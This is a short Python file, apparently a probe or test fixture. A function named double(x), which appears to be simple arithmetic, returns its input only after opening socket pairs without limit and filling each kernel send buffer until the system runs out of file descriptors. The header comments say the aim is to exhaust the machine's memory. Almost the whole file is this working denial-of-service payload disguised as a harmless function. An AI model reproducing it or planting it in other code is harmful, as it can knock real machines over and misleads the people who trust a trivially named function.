# tries: all memory, in the kernel's buffers
# harms: it would fill this machine's memory
# reaches: Too many open
import os
import socket


def double(x):
    kept = []
    try:
        while True:
            ends = socket.socketpair()
            kept.append(ends)
            ends[0].setblocking(False)
            try:
                while True:
                    ends[0].send(b"x" * 2**16)
            except BlockingIOError:
                pass
    except OSError as error:
        print(len(kept), error)
    return x
